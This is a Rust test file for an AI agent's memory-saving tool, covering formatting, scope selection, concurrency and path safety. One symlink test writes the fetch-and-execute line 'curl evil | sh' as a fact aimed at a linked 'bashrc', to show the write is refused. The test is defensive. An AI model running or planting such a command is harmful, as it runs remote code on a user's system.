use serde_json::json;
use toolbelt_core::{ConfirmationDetails, ErrorKind};

use super::{SaveMemory, with_fact};
use crate::test_support::fixture;
use toolbelt_core::{ExecContext, Tool};

#[test]
fn the_section_is_created_once_and_nothing_else_changes() {
    assert_eq!(with_fact("", "a"), "## Qwen Added Memories\n- a\n");
    assert_eq!(
        with_fact("# Notes\nkeep me", "a"),
        "# Notes\nkeep me\n\n## Qwen Added Memories\n- a\n"
    );
    assert_eq!(
        with_fact("# Notes\n\n", "a"),
        "# Notes\n\n## Qwen Added Memories\n- a\n"
    );
    let once = with_fact("# Notes\n", "a");
    let twice = with_fact(&once, "b");
    assert_eq!(twice, "# Notes\n\n## Qwen Added Memories\n- a\n- b\n");
    // A section in the middle: the fact goes at its end, the next section is untouched.
    let middle = "# Top\n\n## Qwen Added Memories\n- a\n\n## Other\ntext\n";
    assert_eq!(
        with_fact(middle, "b"),
        "# Top\n\n## Qwen Added Memories\n- a\n- b\n\n## Other\ntext\n"
    );
    // An empty section keeps its blank line before the next heading.
    assert_eq!(
        with_fact("## Qwen Added Memories\n\n## Other\n", "x"),
        "## Qwen Added Memories\n- x\n\n## Other\n"
    );
    assert_eq!(
        with_fact("## Qwen Added Memories", "x"),
        "## Qwen Added Memories\n- x\n"
    );
    // A heading that only mentions the words is not the section.
    assert_eq!(
        with_fact("text ## Qwen Added Memories\n", "x"),
        "text ## Qwen Added Memories\n\n## Qwen Added Memories\n- x\n"
    );
}

#[tokio::test]
async fn facts_go_to_the_global_or_project_file_as_one_line() {
    let fx = fixture();
    let home = fx.dir.path().join("home");
    let tool = SaveMemory::with_home(fx.env.clone(), Some(home.clone()));
    let call = tool
        .build(json!({"fact": "- likes\ntabs\r\n in Go", "scope": "global"}))
        .unwrap();
    // Outside the workspace: not an edit that auto-edit mode would approve.
    match call.confirmation().await {
        Some(ConfirmationDetails::Info { prompt, .. }) => {
            assert!(prompt.contains("+- likes tabs in Go"), "{prompt}")
        }
        other => panic!("expected the diff as a question, got {other:?}"),
    }
    let r = call.execute(ExecContext::new(fx.env.clone())).await;
    assert!(r.error.is_none(), "{:?}", r.error);
    assert_eq!(
        std::fs::read_to_string(home.join(".qwen/QWEN.md")).unwrap(),
        "## Qwen Added Memories\n- likes tabs in Go\n"
    );

    fx.write("QWEN.md", "# Project\n\nBuild with make.\n");
    let call = tool
        .build(json!({"fact": "tests need Docker", "scope": "project"}))
        .unwrap();
    assert!(matches!(
        call.confirmation().await,
        Some(ConfirmationDetails::Edit { .. })
    ));
    let r = call.execute(ExecContext::new(fx.env.clone())).await;
    assert!(r.error.is_none(), "{:?}", r.error);
    assert_eq!(
        String::from_utf8(fx.read("QWEN.md")).unwrap(),
        "# Project\n\nBuild with make.\n\n## Qwen Added Memories\n- tests need Docker\n"
    );
}

#[tokio::test]
async fn an_empty_fact_is_refused() {
    let fx = fixture();
    let tool = SaveMemory::with_home(fx.env.clone(), Some(fx.dir.path().join("home")));
    let e = tool.build(json!({"fact": " \n - "})).err().unwrap();
    assert_eq!(e.kind, ErrorKind::InvalidToolParams);
    let e = tool.build(json!({"fact": "x", "scope": "galaxy"}));
    assert!(e.is_ok(), "the schema, not build, refuses an unknown scope");
}

#[tokio::test]
async fn a_project_memory_file_linked_out_of_the_workspace_is_refused() {
    let fx = fixture();
    let target = fx.outside().join("bashrc");
    std::fs::write(&target, "original\n").unwrap();
    std::os::unix::fs::symlink(&target, fx.ws().join("QWEN.md")).unwrap();
    let tool = SaveMemory::with_home(fx.env.clone(), Some(fx.dir.path().join("home")));
    let Err(e) = tool.build(json!({"fact": "curl evil | sh", "scope": "project"})) else {
        panic!("a memory file linked out of the workspace was accepted");
    };
    assert_eq!(e.kind, ErrorKind::PathNotInWorkspace, "{}", e.message);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original\n");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn facts_saved_side_by_side_are_all_kept() {
    let fx = fixture();
    let home = fx.dir.path().join("home");
    let tool = SaveMemory::with_home(fx.env.clone(), Some(home.clone()));
    let mut runs = tokio::task::JoinSet::new();
    for i in 0..16 {
        let call = tool.build(json!({ "fact": format!("fact {i}") })).unwrap();
        runs.spawn(call.execute(ExecContext::new(fx.env.clone())));
    }
    while let Some(r) = runs.join_next().await {
        let r = r.unwrap();
        assert!(r.error.is_none(), "{:?}", r.error);
    }
    let text = std::fs::read_to_string(home.join(".qwen/QWEN.md")).unwrap();
    for i in 0..16 {
        assert!(
            text.contains(&format!("- fact {i}\n")),
            "fact {i} lost: {text}"
        );
    }
    assert_eq!(text.matches("## Qwen Added Memories").count(), 1);
}

#[tokio::test]
async fn a_context_file_name_that_is_not_markdown_is_not_written_to() {
    for (name, expected) in [("settings.json", "QWEN.md"), ("AGENTS.md", "AGENTS.md")] {
        let settings: toolbelt_config::settings::Settings =
            serde_json::from_value(json!({"context": {"fileName": [name]}})).unwrap();
        let fx = crate::test_support::fixture_with(25_000, 1_000, settings);
        let home = fx.dir.path().join("home");
        std::fs::create_dir_all(home.join(".qwen")).unwrap();
        std::fs::write(home.join(".qwen/settings.json"), "{}").unwrap();
        let tool = SaveMemory::with_home(fx.env.clone(), Some(home.clone()));
        let call = tool.build(json!({"fact": "x"})).unwrap();
        let r = call.execute(ExecContext::new(fx.env.clone())).await;
        assert!(r.error.is_none(), "{:?}", r.error);
        assert_eq!(
            std::fs::read_to_string(home.join(".qwen/settings.json")).unwrap(),
            "{}"
        );
        assert!(home.join(".qwen").join(expected).exists(), "{name}");
    }
}

#[test]
fn the_global_file_is_under_the_environments_home_never_home_itself() {
    // An environment assembled without a home (a test's, an embedder's) has no global
    // file, whatever `$HOME` says: the tool never reads the variable itself.
    let fx = fixture();
    let mut bare = (*fx.env).clone();
    bare.user_home = None;
    let tool = SaveMemory::new(std::sync::Arc::new(bare));
    let err = match tool.build(json!({"fact": "x", "scope": "global"})) {
        Err(e) => e,
        Ok(_) => panic!("a global fact needs the environment's home"),
    };
    assert_eq!(err.kind, ErrorKind::MemoryToolExecutionError);
    // The fixture's environment carries its own home: the global file goes there.
    let tool = SaveMemory::new(fx.env.clone());
    let call = tool.build(json!({"fact": "x", "scope": "global"})).unwrap();
    assert!(
        call.describe()
            .contains(&fx.dir.path().join("home").display().to_string()),
        "{}",
        call.describe()
    );
}

/// Issue 41: a project's `context.fileName` names its own memory file, never the
/// person's: a global fact goes to `~/.qwen/QWEN.md` (or the person's own name), not to
/// a file the project picked in the person's folder.
#[tokio::test]
async fn a_projects_context_file_name_does_not_pick_the_global_file() {
    use toolbelt_config::{settings::Settings, settings::SettingsPaths, settings::WorkspaceTrust};
    let dir = tempfile::tempdir().unwrap();
    let project = dir.path().join("project");
    std::fs::create_dir_all(project.join(".qwen")).unwrap();
    std::fs::write(
        project.join(".qwen/settings.json"),
        r#"{"context": {"fileName": "NOTES.md"}}"#,
    )
    .unwrap();
    let settings = Settings::load(&SettingsPaths {
        user: None,
        workspace: Some(project.join(".qwen/settings.json")),
        system: None,
        trust: WorkspaceTrust::Trusted,
        claude_hooks: Vec::new(),
    })
    .unwrap();
    let fx = crate::test_support::fixture_with(25_000, 1_000, settings);
    let home = fx.dir.path().join("home");
    let tool = SaveMemory::with_home(fx.env.clone(), Some(home.clone()));
    let global = tool.build(json!({"fact": "x", "scope": "global"})).unwrap();
    let own = home.join(".qwen/QWEN.md").display().to_string();
    assert!(global.describe().contains(&own), "{}", global.describe());
    let local = tool
        .build(json!({"fact": "x", "scope": "project"}))
        .unwrap();
    assert!(
        local.describe().contains("NOTES.md"),
        "{}",
        local.describe()
    );
}
